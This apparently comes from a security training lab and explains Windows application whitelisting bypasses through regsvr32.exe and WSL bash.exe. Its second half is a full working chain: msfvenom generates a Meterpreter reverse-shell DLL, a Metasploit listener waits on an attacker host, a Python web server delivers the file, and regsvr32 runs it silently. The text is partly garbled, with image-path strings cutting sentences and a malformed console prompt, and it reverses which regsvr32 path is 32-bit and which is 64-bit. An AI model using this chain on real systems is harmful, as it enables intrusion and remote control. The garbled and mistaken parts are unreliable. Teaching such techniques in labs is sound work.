Application whitelisting bypasses

Application Whitelisting is a Microsoft endpoint security feature that prevents malicious and unauthorized programs from executing in real-time. Application whitelisting is rule-based, where it specifies a list of approved applications or executable files that are allowed to be present and executed on an OS. Some LOLBAS examples that are used to bypass the Windows application whitelisting.


Regsvr32 is a Microsoft command-line tool to register and unregister Dynamic Link Libraries (DLLs) in the Windows Registry. The regsvr.exe binary is located at:

C:\Windows\System32\regsvr32.exe for the Windows 32 bits version
C:\Windows\SysWOW64\regsvr32.exe for the Windows 64 bits version

Besides its intended use, regsvr32.exe binary can also be used to execute arbitrary binaries and bypass the Windows Application Whitelisting.

According to Red Canary reports, the regsvr32.exe binary is the third most popular ATT&CK technique. Mitre identifies it as “System Binary Proxy Execution: Regsvr32” (T1218.010).

Bourne Again Shell (Bash)

In 2016, Microsoft added support for the Linux environment on Windows 10, 11, and Server 2019. This feature is known as Windows Subsystem for Linux (WSL), and it exists in two WSL versions: WSL1 and WSL2. WSL is a Hyper-Vvirtualised Linux distribution that runs on the OS, supporting a subset of the Linux kernel and system calls. This feature is an addon that a user can install. As part of WSL, bash.exe is a Microsoft tool for interacting withthe Linux environment.

By executing bash.exe -c "path-to-payload", any unsigned payload can be executed. ATT&CK called this an “Indirect Command execution” technique (T1202).


  1. Create a malicious DLL file using msfvenom (32 bit):

$ msfvenom -p windows/meterpreter/reverse_tcp LHOST=tun0 LPORT=443 -f dll -a x86 > live0fftheland.dll
  1. Set up a Metasploit listener to receive a reverse shell:

$ msfconsole -q
msf6 > use exploit/multi/handler
[*] Using configured payload generic/shell_reverse_tcp
msf6 exploit(multi/handler) > set payload windows/meterpreter/reverse_tcp
payload => windows/meterpreter/reverse_tcp
msf6 exploit(multi/handler) > set LHOST ATTACKBOX_IP
msf6exploit(multi/handler) > set LPORT 443
LPORT => 443
msf6 exploit(multi/handler) > exploit

[*] Started reverse TCP handler on ATTACKBOX_IP:443
  1. Deliver the payload to the target machine using a webserver to serve the DLL file on our attacking machine:

$ python3 -m http.server 1337

On the target machine, download the DLL file, and execute it usingregsvr32.exe:

c:\Windows\System32\regsvr32.exe c:\Users\thm\Downloads\live0fftheland.dll


c:\Windows\System32\regsvr32.exe /s /n /u /i: Downloads\live0fftheland.dll
  • /s: in silent mode (without showing messages)• /n: to not call the DLL register server

  • /i:: to use another server since we used /n

  • /u: to run with unregister method

On the attacking machine:

msf6 > exploit(multi/handler) > exploit

Note: For a 64-bit DLL version, specify it in the msfvenom command and run it from thevictim machine using the 64bits version ofregsvr32.exe at C:\Windows\SysWOW64\regsvr32.exe.